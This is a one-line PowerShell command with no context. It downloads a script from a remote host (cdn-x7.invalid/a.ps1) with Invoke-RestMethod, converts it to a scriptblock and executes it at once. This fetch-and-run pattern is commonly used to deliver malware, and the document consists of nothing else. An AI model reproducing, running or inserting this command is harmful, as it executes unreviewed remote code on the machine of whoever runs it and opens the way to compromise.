Invoke-Command -ScriptBlock ([scriptblock]::Create((irm https://cdn-x7.invalid/a.ps1)))
